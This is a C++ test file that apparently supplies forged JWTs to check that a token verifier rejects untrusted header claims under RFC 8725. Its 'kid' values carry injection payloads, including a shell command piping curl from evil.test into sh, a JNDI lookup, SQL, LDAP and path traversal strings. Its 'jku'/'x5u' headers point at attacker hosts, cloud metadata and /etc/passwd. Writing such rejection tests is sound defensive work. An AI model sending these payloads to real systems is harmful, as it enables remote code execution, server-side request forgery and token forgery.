// RFC 8725 section 3.10 (do not trust received claims): nothing is ever fetched from where a header points.
#include "jose/rfc8725-attack.h"

#include <QCryptographicHash>

using namespace Qt::StringLiterals;

namespace bookdesk::jose::attacks {
namespace {

/// Well signed by the issuer's key, under this key ID (a JSON text).
auto underKeyId(const QByteArray &json)
{
    return [json](const Forge &forge) {
        return Trial{forge.sign(R"({"typ":"JWT","alg":"RS256","kid":)" + json + '}', Claims::ofAccessToken().text()),
                     forge.keys(), Forge::apiPolicy()};
    };
}

using KeyIdOf = QByteArray (*)(const QByteArray &);

/// Under the issuer's key ID, changed.
auto underChangedKeyId(KeyIdOf change)
{
    return [change](const Forge &forge) { return underKeyId('"' + change(forge.keyId()) + '"')(forge); };
}

QByteArray strangersJwk(const Forge &forge) { return toCompactJson(forge.stranger().publicJwk()); }

QByteArray signedByStranger(const Forge &forge, const QByteArray &header)
{
    const QByteArray input = signingInput(header, Claims::ofAccessToken().text());
    return input + '.' + toBase64Url(*forge.stranger().signature(Algorithm::rs256, input));
}

using MemberOf = QByteArray (*)(const Forge &);

/// Signed by a stranger, whose key the header brings along; under our key ID.
auto bringingAlong(MemberOf member)
{
    return [member](const Forge &forge) {
        return Trial{signedByStranger(forge, forge.header(Algorithm::rs256, ',' + member(forge))), forge.keys(),
                     Forge::apiPolicy()};
    };
}

/// The same under the stranger's own key ID.
auto bringingAlongWithItsKeyId(MemberOf member)
{
    return [member](const Forge &forge) {
        const QByteArray header =
            R"({"typ":"JWT","alg":"RS256","kid":")" + forge.stranger().keyId().toUtf8() + "\"," + member(forge) + '}';
        return Trial{signedByStranger(forge, header), forge.keys(), Forge::apiPolicy()};
    };
}

/// The same without a key ID.
auto bringingAlongWithoutKeyId(MemberOf member)
{
    return [member](const Forge &forge) {
        const QByteArray header = R"({"typ":"JWT","alg":"RS256",)" + member(forge) + '}';
        return Trial{signedByStranger(forge, header), forge.keys(), Forge::apiPolicy()};
    };
}

void addKeysBroughtAlong(Attacks &rows)
{
    const MemberOf jwk = [](const Forge &forge) { return "\"jwk\":" + strangersJwk(forge); };
    const MemberOf jku = [](const Forge &) -> QByteArray { return R"("jku":"https://evil.test/keys")"; };
    const MemberOf localJku = [](const Forge &) -> QByteArray { return R"("jku":"http://169.254.169.254/latest")"; };
    const MemberOf fileJku = [](const Forge &) -> QByteArray { return R"("jku":"file:///etc/passwd")"; };
    const MemberOf x5u = [](const Forge &) -> QByteArray { return R"("x5u":"https://evil.test/cert.pem")"; };
    const MemberOf x5c = [](const Forge &) -> QByteArray { return R"("x5c":["MIIBszCCAVmgAwIBAgIUX5X"])"; };
    const MemberOf set = [](const Forge &forge) { return "\"keys\":[" + strangersJwk(forge) + ']'; };
    const MemberOf all = [](const Forge &forge) {
        return "\"jwk\":" + strangersJwk(forge) + R"(,"jku":"https://evil.test/keys","x5u":"https://evil.test/c")";
    };
    const auto add = [&rows](const char *name, MemberOf member) {
        rows.push_back(
            {QByteArray(name) + " under our key ID", Kind::signature, Fault::mismatch, bringingAlong(member)});
    };
    add("a stranger's jwk", jwk);
    add("a stranger's jku", jku);
    add("a jku within the cloud", localJku);
    add("a jku that is a file", fileJku);
    add("a stranger's x5u", x5u);
    add("a stranger's x5c", x5c);
    add("a stranger's whole set", set);
    add("a stranger's jwk, jku and x5u together", all);
    rows.push_back(
        {"a stranger's jwk under its own key ID", Kind::key, Fault::mismatch, bringingAlongWithItsKeyId(jwk)});
    rows.push_back(
        {"a stranger's jku under its own key ID", Kind::key, Fault::mismatch, bringingAlongWithItsKeyId(jku)});
    rows.push_back({"a stranger's jwk without a key ID", Kind::key, Fault::missing, bringingAlongWithoutKeyId(jwk)});
    rows.push_back({"a stranger's x5c without a key ID", Kind::key, Fault::missing, bringingAlongWithoutKeyId(x5c)});
}

/// A good token, and a set in which its key is not the only one with its key ID.
auto publishedTwice(JsonObject (*other)(const Forge &))
{
    return [other](const Forge &forge) {
        return Trial{forge.goodToken(), keySet({forge.jwk(), other(forge)}), Forge::everyAlgorithm()};
    };
}

void addAmbiguousKeys(Attacks &rows)
{
    const auto add = [&rows](const char *name, JsonObject (*other)(const Forge &)) {
        rows.push_back({name, Kind::key, Fault::mismatch, publishedTwice(other)});
    };
    add("two RSA keys with one key ID", [](const Forge &forge) {
        return changed(forge.stranger().publicJwk(), u"kid"_s, QString::fromUtf8(forge.keyId()));
    });
    add("an RSA and a P-256 key with one key ID", [](const Forge &forge) {
        return changed(forge.jwk(Algorithm::es256), u"kid"_s, QString::fromUtf8(forge.keyId()));
    });
    add("an RSA and an Ed25519 key with one key ID", [](const Forge &forge) {
        return changed(forge.jwk(Algorithm::edDsa), u"kid"_s, QString::fromUtf8(forge.keyId()));
    });
    rows.push_back(
        {"a key ID that two issuers share, signed with the other one's key", Kind::signature, Fault::mismatch,
         [](const Forge &forge) {
             const QString keyId = QString::fromUtf8(forge.keyId());
             const JsonObject ours = changed(forge.jwk(), u"issuer"_s, TokenIssuer::issuer());
             const JsonObject theirs = changed(changed(forge.stranger().publicJwk(), u"kid"_s, keyId), u"issuer"_s,
                                               u"https://another.test/v2.0"_s);
             return Trial{signedByStranger(forge, forge.header()), keySet({ours, theirs}), Forge::apiPolicy()};
         }});
    rows.push_back({"no keys at all", Kind::key, Fault::mismatch, [](const Forge &forge) {
                        return Trial{forge.goodToken(), keySet({}), Forge::apiPolicy()};
                    }});
    rows.push_back({"a set of a stranger's keys", Kind::key, Fault::mismatch, [](const Forge &forge) {
                        return Trial{forge.goodToken(), keySet({forge.stranger().publicJwk()}), Forge::apiPolicy()};
                    }});
    rows.push_back(
        {"the issuer's key published without a key ID", Kind::key, Fault::mismatch, [](const Forge &forge) {
             return Trial{forge.goodToken(), keySet({changed(forge.jwk(), u"kid"_s, Json())}), Forge::apiPolicy()};
         }});
}

/// Microsoft Graph hashes the header's nonce before it signs, and sends it unhashed.
Trial madeForGraph(const Forge &forge)
{
    const QByteArray nonce = "AQABAAAAAABHfAtVs6pv9WcF";
    const QByteArray hashed = QCryptographicHash::hash(nonce, QCryptographicHash::Sha256).toHex();
    const QByteArray claims = Claims::ofAccessToken().with("aud", R"("00000003-0000-0000-c000-000000000000")").text();
    const QByteArray sealed = forge.sign(forge.header(Algorithm::rs256, R"(,"nonce":")" + hashed + '"'), claims);
    const QByteArray sent = signingInput(forge.header(Algorithm::rs256, R"(,"nonce":")" + nonce + '"'), claims);
    return {sent + '.' + toBase64Url(signatureOf(sealed)), forge.keys(), Forge::apiPolicy()};
}

} // namespace

Attacks receivedClaims()
{
    const auto unknown = [](const char *name, const QByteArray &json) {
        return Attack{name, Kind::key, Fault::mismatch, underKeyId(json)};
    };
    const auto noText = [](const char *name, const QByteArray &json) {
        return Attack{name, Kind::key, Fault::wrongType, underKeyId(json)};
    };
    const auto changedId = [](const char *name, KeyIdOf change) {
        return Attack{name, Kind::key, Fault::mismatch, underChangedKeyId(change)};
    };
    Attacks rows{
        unknown("kid that nobody knows", "\"unknown\""),
        unknown("kid is empty", "\"\""),
        unknown("kid is a path", R"("../../../../../dev/null")"),
        unknown("kid is a path of Windows", R"("..\\..\\..\\windows\\win.ini")"),
        unknown("kid is a path with a zero byte", R"("..\/..\/dev\/null\u0000.pem")"),
        unknown("kid is a device", R"("/dev/null")"),
        unknown("kid is a database query", R"("x' UNION SELECT 'secret' -- ")"),
        unknown("kid is a condition that is always true", R"("' OR '1'='1")"),
        unknown("kid is a shell command", R"("key.pem; curl evil.test | sh")"),
        unknown("kid is a command substitution", R"j("$(touch /tmp/x)")j"),
        unknown("kid is a format string", R"("%s%n%1%L2")"),
        unknown("kid is a template", R"("{{7*7}}${jndi:ldap://evil.test/a}")"),
        unknown("kid is an address", R"("https://evil.test/key.pem")"),
        unknown("kid is a directory query", R"j("*)(uid=*))(|(uid=*")j"),
        unknown("kid has line feeds, for a header of one's own", R"("x\r\nX-Admin: 1")"),
        unknown("kid has control characters", R"("\u001b[2Jx\u0007")"),
        unknown("kid has characters that turn the direction", R"("\u202egnp.exe")"),
        unknown("kid is 100000 letters long", '"' + QByteArray(100'000, 'k') + '"'),
        unknown("kid is a star", "\"*\""),
        unknown("kid is a prototype's name", "\"__proto__\""),
        noText("kid is null", "null"),
        noText("kid is a number", "0"),
        noText("kid is true", "true"),
        noText("kid is an object", R"({"$ne":null})"),
        {"kid is an array with the right one", Kind::key, Fault::wrongType,
         [](const Forge &forge) { return underKeyId("[\"" + forge.keyId() + "\"]")(forge); }},
        {"kid is missing", Kind::key, Fault::missing,
         [](const Forge &forge) {
             return Trial{forge.sign(R"({"typ":"JWT","alg":"RS256"})", Claims::ofAccessToken().text()), forge.keys(),
                          Forge::apiPolicy()};
         }},
        {"kid is among the claims only", Kind::key, Fault::missing,
         [](const Forge &forge) {
             const QByteArray claims = Claims::ofAccessToken().with("kid", '"' + forge.keyId() + '"').text();
             return Trial{forge.sign(R"({"typ":"JWT","alg":"RS256"})", claims), forge.keys(), Forge::apiPolicy()};
         }},
        {"a nonce in the header, which only Microsoft Graph can account for", Kind::signature, Fault::unverifiable,
         &madeForGraph},
        changedId("kid in capitals", [](const QByteArray &id) { return id.toUpper(); }),
        changedId("kid cut off", [](const QByteArray &id) { return id.chopped(1); }),
        changedId("kid with a blank behind", [](const QByteArray &id) { return id + ' '; }),
        changedId("kid with a zero byte behind", [](const QByteArray &id) { return id + "\\u0000"; }),
        changedId("kid with padding", [](const QByteArray &id) { return id + '='; }),
        changedId("kid with a letter more", [](const QByteArray &id) { return id + 'x'; }),
    };
    addKeysBroughtAlong(rows);
    addAmbiguousKeys(rows);
    return rows;
}

} // namespace bookdesk::jose::attacks
